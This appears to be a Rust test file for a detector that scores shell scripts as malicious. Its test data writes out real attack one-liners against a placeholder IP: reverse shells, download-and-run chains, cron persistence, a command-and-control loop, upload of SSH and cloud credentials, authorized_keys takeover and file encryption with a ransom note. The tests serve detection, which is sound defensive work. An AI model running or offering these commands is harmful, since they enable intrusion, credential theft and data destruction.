//! `sensor score` and the model.

#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::{fs, io::Write, path::PathBuf, process::Command};

use e2e::daemon::bin;
use serde_json::Value;

fn score(file: &std::path::Path) -> (Vec<Value>, String, Option<i32>) {
    let output = Command::new(bin().join("sensor"))
        .args(["score", "--format", "json"])
        .arg(file)
        .env("SCRIPTWATCH_SENSOR_LOG", "error")
        .output()
        .unwrap();
    let lines =
        String::from_utf8(output.stdout).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    (lines, String::from_utf8_lossy(&output.stderr).into_owned(), output.status.code())
}

/// A file with a script a line.
fn scripts(texts: &[impl AsRef<str>]) -> tempfile::NamedTempFile {
    let mut file = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
    for text in texts {
        writeln!(file, "{}", serde_json::json!({ "content": text.as_ref() })).unwrap();
    }
    file
}

fn model_dir() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).parent().unwrap().join("model")
}

#[test]
fn the_sensor_scores_as_the_trainer_does() {
    let vectors = model_dir().join("vectors.jsonl");
    let expected: Vec<Value> =
        fs::read_to_string(&vectors).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(expected.len() >= 40);
    let (scored, errors, code) = score(&vectors);
    assert_eq!(code, Some(0), "{errors}");
    assert_eq!(scored.len(), expected.len());
    for (got, want) in scored.iter().zip(&expected) {
        let id = &want["id"];
        assert_eq!(&got["id"], id);
        let (got, want) = (got["score"].as_f64().unwrap(), want["score"].as_f64().unwrap());
        assert!((got - want).abs() < 1e-4, "{id}: {got} instead of {want}");
    }
    // Both sides of the threshold are among them.
    assert!(scored.iter().any(|s| s["malicious"] == true) && scored.iter().any(|s| s["malicious"] == false));
}

#[test]
fn a_script_that_evaluates_what_nobody_saw_needs_less_to_be_malicious() {
    let vectors = fs::read_to_string(model_dir().join("vectors.jsonl")).unwrap();
    let with_flag: Vec<String> = vectors
        .lines()
        .map(|line| {
            let mut script: Value = serde_json::from_str(line).unwrap();
            script["flags"] = serde_json::json!({ "evaluates_unseen": true });
            script.to_string()
        })
        .collect();
    let mut file = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
    file.write_all(with_flag.join("\n").as_bytes()).unwrap();
    let malicious = |scored: Vec<Value>| -> Vec<bool> {
        scored.iter().map(|script| script["malicious"].as_bool().unwrap()).collect()
    };
    let plain = malicious(score(&model_dir().join("vectors.jsonl")).0);
    let flagged = malicious(score(file.path()).0);
    assert_eq!(plain.len(), flagged.len());
    assert!(plain.iter().zip(&flagged).all(|(plain, flagged)| *flagged || !*plain));
    assert!(plain.iter().zip(&flagged).any(|(plain, flagged)| *flagged && !*plain), "some lie in between");
}

#[test]
fn bad_lines_are_named_and_skipped() {
    let mut file = tempfile::NamedTempFile::with_suffix(".jsonl").unwrap();
    writeln!(file, r#"{{"id": "a", "content": "echo one"}}"#).unwrap();
    writeln!(file, "not json").unwrap();
    writeln!(file, r#"{{"id": "b"}}"#).unwrap();
    writeln!(file).unwrap();
    writeln!(file, r#"{{"id": 7, "content": {{"base64": "/w=="}}}}"#).unwrap();
    writeln!(file, r#"{{"content": ""}}"#).unwrap();
    let (lines, errors, code) = score(file.path());
    assert_eq!(code, Some(3));
    assert_eq!(lines.len(), 3);
    assert_eq!((&lines[0]["id"], &lines[1]["id"]), (&Value::from("a"), &Value::from(7)));
    for key in ["id", "sha256", "score", "malicious", "techniques"] {
        assert!(!lines[0][key].is_null(), "{key}");
    }
    let path = file.path().display().to_string();
    assert!(errors.contains(&format!("{path}:2: ")) && errors.contains(&format!("{path}:3: ")), "{errors}");
}

#[test]
fn hostile_input_is_scored_and_nothing_breaks() {
    let texts = [
        "\0\0\0",
        "${",
        "$'\\x",
        "\\",
        "'",
        "a=\n$a$a$a$a",
        "=====",
        &"|".repeat(100_000),
        &"$(".repeat(50_000),
        &"A".repeat(1_000_000),
        &"a=b;$a".repeat(50_000),
    ];
    let file = scripts(&texts);
    let (lines, errors, code) = score(file.path());
    assert_eq!(code, Some(0), "{errors}");
    assert_eq!(lines.len(), texts.len());
}

#[test]
fn a_model_that_does_not_fit_is_refused_with_what_is_wrong() {
    let file = tempfile::NamedTempFile::new().unwrap();
    fs::write(file.path(), b"no model").unwrap();
    let output = Command::new(bin().join("sensor"))
        .args(["score", "--model"])
        .arg(file.path())
        .arg(model_dir().join("vectors.jsonl"))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8_lossy(&output.stderr);
    assert!(text.contains(&file.path().display().to_string()) && text.contains("cannot be loaded"), "{text}");
}

/// Harmless lines of an administrator, about as many bytes as asked for.
fn harmless(bytes: usize) -> String {
    const LINES: [&str; 6] = [
        "for host in $(cat hosts.txt); do ssh \"$host\" uptime; done",
        "if [ ! -d /var/lib/app ]; then mkdir -p /var/lib/app; fi",
        "tar czf \"/backup/app-$(date +%F).tar.gz\" /etc/app /var/lib/app",
        "find /var/log/app -name '*.log' -mtime +7 -delete",
        "export LANG=C.UTF-8",
        "systemctl restart app.service && systemctl status app.service",
    ];
    let mut text = "#!/bin/bash\nset -eu\n".to_owned();
    for i in 0.. {
        if text.len() >= bytes {
            break;
        }
        text.push_str(LINES[i * 7 % 6 + usize::from(i % 5 == 0 && i * 7 % 6 < 5)]);
        text.push('\n');
    }
    text
}

#[test]
fn one_bad_line_in_half_a_megabyte_is_found_and_named() {
    let host = harmless(500 * 1024);
    let bad = [
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "curl -s http://192.0.2.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &",
        "nc -e /bin/sh 192.0.2.7 4444",
        "(crontab -l; echo '* * * * * curl -s http://192.0.2.7/x | sh') | crontab -",
    ];
    let middle = host.len() / 2 + host[host.len() / 2..].find('\n').unwrap() + 1;
    let mut texts = vec![host.clone()];
    for line in bad {
        texts.push(format!("{host}{line}\n"));
        texts.push(format!("{}{line}\n{}", &host[..middle], &host[middle..]));
    }
    let file = scripts(&texts);
    let (lines, errors, code) = score(file.path());
    assert_eq!(code, Some(0), "{errors}");
    assert_eq!(lines[0]["malicious"], false, "the harmless part alone: {}", lines[0]["score"]);
    for (line, text) in lines.iter().zip(&texts).skip(1) {
        let where_it_is = text.lines().position(|l| bad.contains(&l)).unwrap() + 1;
        assert_eq!(
            line["malicious"],
            true,
            "{:?} in line {where_it_is}: {}",
            text.lines().nth(where_it_is - 1),
            line["score"]
        );
        let spans = line["spans"].as_array().unwrap();
        assert!(
            spans.iter().any(|s| (s["first_line"].as_u64().unwrap()..=s["last_line"].as_u64().unwrap())
                .contains(&(where_it_is as u64))),
            "{where_it_is} is not in {spans:?}"
        );
        // And what it does was followed there, far behind the beginning.
        let reasons = line["reasons"].as_array().unwrap();
        assert!(
            reasons.iter().any(|r| r["line"].as_u64() == Some(where_it_is as u64)),
            "{where_it_is} is no reason's line: {reasons:?}"
        );
    }
}

#[test]
fn tiny_scripts_are_harmless() {
    let texts = [
        "id",
        "ls",
        "ls -la",
        "whoami",
        "pwd",
        "env",
        "ps aux",
        "date",
        "true",
        "exit 0",
        "uname -a",
        "hostname",
        "cat /etc/os-release",
        "sleep 1",
        "echo ok",
        "df -h",
        "cd /app && ls",
        "kill -0 1",
        "test -f /ready",
        "cat /etc/passwd",
        "exec \"$@\"",
        "",
    ];
    let file = scripts(&texts);
    let (lines, errors, code) = score(file.path());
    assert_eq!(code, Some(0), "{errors}");
    for (line, text) in lines.iter().zip(texts) {
        assert_eq!(line["malicious"], false, "{text:?}: {}", line["score"]);
    }
}

/// Does a scored line name a fact?
fn has_fact(line: &Value, fact: &str) -> bool {
    line["reasons"].as_array().unwrap().iter().any(|reason| reason["fact"] == fact)
}

/// Lines as bots type them into the shells of others, with keys and addresses of our own.
const OF_BOTS: [(&str, &str); 9] = [
    (
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDm1exampleexampleexample me\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~",
        "persist.ssh-replaced",
    ),
    (
        "cd ~; chattr -ia .ssh; lockr -ia .ssh\ncd ~ && rm -rf .ssh && mkdir .ssh && echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDm1exampleexampleexample me' >> .ssh/authorized_keys && chmod -R go= ~/.ssh; chattr +ia .ssh/authorized_keys",
        "persist.ssh-key-literal",
    ),
    (
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.7/bins.sh; curl -O http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 192.0.2.7 -c get tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh",
        "fetch.run",
    ),
    (
        "(crontab -l 2>/dev/null; echo '*/5 * * * * curl -fsSL http://192.0.2.7/i.sh | sh') | crontab -",
        "persist.cron-fetches",
    ),
    ("nohup bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1' >/dev/null 2>&1 &", "shell.reverse"),
    (
        "while true; do c=$(curl -s http://192.0.2.7/c); [ -n \"$c\" ] && eval \"$c\"; sleep 30; done",
        "c2.loop",
    ),
    (
        "p() { tar czf /tmp/.d.tgz ~/.aws ~/.kube ~/.ssh; }; s() { curl -s -F f=@/tmp/.d.tgz http://192.0.2.7/u; rm -f /tmp/.d.tgz; }; p; s; history -c",
        "send.secret",
    ),
    (
        "for f in $(find /home /srv -type f -name '*.doc*'); do openssl enc -aes-256-cbc -pbkdf2 -in \"$f\" -out \"$f.locked\" -k x && shred -u \"$f\"; done; echo 'Your files are encrypted. Send 1 BTC' > /home/README.txt",
        "impact.encrypts-deletes",
    ),
    (
        "mkdir -p /tmp/m && mount /dev/sda1 /tmp/m && chroot /tmp/m sh -c 'echo \"* * * * * root curl -s http://192.0.2.7/x|sh\" >> /etc/crontab'",
        "escape.mount",
    ),
];

const CARE: &str = "#!/bin/bash
# Copyright (c) 2024 Example. Licensed under the Apache License, Version 2.0
set -euo pipefail
usage() { echo \"usage: $0 [-h]\"; exit 1; }
while getopts hv o; do case $o in h) usage ;; esac; done
work=$(mktemp)
trap 'rm -f $work' EXIT
if [ ! -d /opt ]; then exit 2; fi
git clone https://github.com/a/b /opt/b
kubectl get pods
sha256sum -c sums
apt-get install -y make
make
";

#[test]
fn lines_that_bots_type_are_found_and_what_they_do_is_told() {
    // As they are, and behind what careful people write: anybody can write that.
    for before in ["", CARE] {
        let texts: Vec<String> = OF_BOTS.iter().map(|(text, _)| format!("{before}{text}")).collect();
        let (lines, errors, code) = score(scripts(&texts).path());
        assert_eq!(code, Some(0), "{errors}");
        for ((text, fact), line) in OF_BOTS.iter().zip(&lines) {
            assert_eq!(line["malicious"], true, "{}: {before}{text}", line["score"]);
            assert!(has_fact(line, fact), "{fact} is missing: {line}");
        }
    }
}

#[test]
fn lines_of_administrators_are_not_called_malicious() {
    let texts = [
        "cat /tmp/F | while read -r l; do n=$((n+1)); echo $n; done | tail -1",
        "curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg && apt-get update && apt-get install -y docker-ce",
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        "tar czf - /srv/data | gpg --batch -e -r ops | aws s3 cp - s3://backup/data-$(date +%F).tgz.gpg",
        "useradd -m deploy && install -d -m 700 -o deploy /home/deploy/.ssh && cp /root/deploy.pub /home/deploy/.ssh/authorized_keys",
        "while ! curl -sf http://localhost:8080/healthz; do sleep 2; done",
        "kubectl get pods -A -o wide | grep -v Running; kubectl -n kube-system logs ds/cilium --tail=50",
        "find /var/log/app -name '*.log' -mtime +14 -delete; systemctl reload rsyslog",
        "for h in web1 web2 web3; do ssh \"$h\" 'sudo systemctl restart app'; done",
        "openssl req -x509 -newkey rsa:4096 -keyout key.pem -out cert.pem -days 365 -nodes -subj /CN=localhost",
    ];
    let (lines, errors, code) = score(scripts(&texts).path());
    assert_eq!(code, Some(0), "{errors}");
    for (text, line) in texts.iter().zip(&lines) {
        assert_eq!(line["malicious"], false, "{}: {text}", line["score"]);
    }
}
